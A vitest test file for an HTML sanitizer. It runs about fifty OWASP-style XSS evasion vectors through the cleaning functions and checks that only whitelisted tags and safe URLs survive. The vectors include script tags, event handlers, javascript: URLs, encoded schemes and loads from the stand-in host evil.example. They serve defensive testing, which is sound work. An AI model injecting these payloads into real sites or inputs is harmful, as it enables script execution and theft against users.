import { expect, test } from 'vitest'
import { cleanArticle, cleanHtml, plainText } from './clean-html'

/** From the OWASP list of filter evasions: each one runs in some browser if it passes. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/publications/a.png" onload="alert(1)">',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/files/../api/v2/user/sign-out">',
  '<img src="/files/\\\\evil.example/x">',
  '<img srcset="https://evil.example/x 1x" src="/files/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a onmouseover="alert(1)" href="/">x</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<p id="__proto__" class="admin" data-x="1">x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td colspan="1" onclick=alert(1)>x</td></table>',
]

const allowed =
  /^<\/?(a|b|blockquote|br|code|em|figcaption|figure|h[2-6]|hr|i|img|li|ol|p|pre|s|strong|sub|sup|table|tbody|td|th|thead|tr|u|ul)(?=[\s/>])/

for (const [name, clean] of [
  ['pages', cleanArticle],
  ['notices', cleanHtml],
] as const)
  test.each(vectors)(`nothing in %s can run in ${name}`, (vector) => {
    const cleaned = clean(vector)
    for (const [tag] of cleaned.matchAll(/<[^>]*>/g)) {
      expect(tag).toMatch(allowed)
      expect(tag).not.toMatch(/\s(on\w+|style|srcset|class|id|background|action|formaction|data-\w+)\s*=/i)
      expect(tag).not.toMatch(/(href|src)="\s*(?!https?:\/\/|mailto:|tel:|\/files\/|\/"|\/[a-z])/i)
      if (tag.startsWith('<img')) expect(tag).toMatch(/src="\/files\/(?!.*\.\.)/)
    }
    // cleaning is idempotent, so what is stored is what is shown
    expect(clean(cleaned)).toBe(cleaned)
  })

test('an article keeps its headings, pictures of the portal and quotes', () => {
  const html =
    '<h1>А</h1><figure><img src="/files/publications/a.png" alt="Щит" width="10" height="5" /><figcaption>Щит</figcaption></figure><blockquote>Б</blockquote>'
  expect(cleanArticle(html)).toBe(
    '<h2>А</h2><figure><img src="/files/publications/a.png" alt="Щит" width="10" height="5" loading="lazy" /><figcaption>Щит</figcaption></figure><blockquote>Б</blockquote>',
  )
})

test('plainText leaves only words', () => {
  expect(plainText('<p>Склад &amp; офис</p><ul><li>один</li><li>2 &lt; 3</li></ul><script>x</script>')).toBe(
    'Склад & офис один 2 < 3',
  )
})
